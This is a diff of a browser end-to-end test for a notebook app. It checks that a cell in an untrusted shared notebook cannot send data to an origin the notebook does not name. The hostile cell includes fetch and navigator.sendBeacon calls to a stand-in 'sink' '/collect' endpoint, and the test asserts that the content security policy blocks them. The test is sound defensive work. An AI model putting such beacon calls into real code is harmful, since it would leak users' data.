@@ -302,7 +302,7 @@ test("a notebook whose run finished reopens and runs as usual (the mark is clear
   expect(await again.locator("[data-trust-banner]").count()).toBe(0);
 });
 
-test("a cell's fetch and sendBeacon to an origin the notebook does not name are refused; the notebook's own data origin loads", async () => {
+test("once a notebook from outside the site runs, a cell's fetch and sendBeacon to an origin it does not name are refused; its own data origin loads", async () => {
   elsewhere.route("/people.csv", {
     body: "id,name\n1,Ada\n2,Grace\n",
     headers: { ...CORS, "Content-Type": "text/csv" },
@@ -318,10 +318,8 @@ test("a cell's fetch and sendBeacon to an origin the notebook does not name are 
     "navigator.sendBeacon(" + JSON.stringify(`${sink.origin}/collect?beacon=1`) + ", 'x');",
     "`named:${named.length > 0 && named !== 'refused'} other:${other}`;",
   ].join("\n");
-  site.route(`${SUB_PATH}__test-notebooks__/named-origin.md`, {
-    body: hostileNotebook("Named origin", cell, `data:\n  people:\n    path: ${elsewhere.origin}/people.csv`),
-    headers: MARKDOWN,
-  });
+  // A share link: anyone's notebook, run after one click on Run.
+  const text = hostileNotebook("Named origin", cell, `data:\n  people:\n    path: ${elsewhere.origin}/people.csv`);
   const w = await open();
   const violations: string[] = [];
   await w.page.exposeFunction("__violation", (v: string) => violations.push(v));
@@ -330,7 +328,8 @@ test("a cell's fetch and sendBeacon to an origin the notebook does not name are 
       (window as unknown as { __violation(v: string): void }).__violation(`${e.effectiveDirective} ${e.blockedURI}`),
     ),
   );
-  await w.page.goto(`${site.baseUrl}?notebook=__test-notebooks__/named-origin.md`);
+  await w.page.goto(`${site.baseUrl}#${shareFragment({ text, from: "notebooks/welcome.md" })}`);
+  await w.page.click("[data-trust-banner] [data-action=trust]");
   await waitForSettled(w.page);
   const statuses = await cellSnapshots(w.page);
   expect(
@@ -344,5 +343,13 @@ test("a cell's fetch and sendBeacon to an origin the notebook does not name are 
     .poll(() => violations.filter((v) => v.startsWith("connect-src") && v.includes(sink.origin)).length)
     .toBe(2);
   await w.page.waitForTimeout(500);
+  expect(sink.requests).toEqual([]);
+
+  // Adding data from another origin by hand in this tab is refused with the reason and the way out.
+  await w.page.fill('input[aria-label="Data URL"]', `${sink.origin}/collect.csv`);
+  await w.page.press('input[aria-label="Data URL"]', "Enter");
+  await expect
+    .poll(() => w.page.locator('.url ~ .error[role=alert], p.error[role=alert]').first().textContent())
+    .toMatch(/connects only to the site and https:\/\/127\.0\.0\.1:\d+\. Open the site in a new tab/);
   expect(sink.requests).toEqual([]);
 });
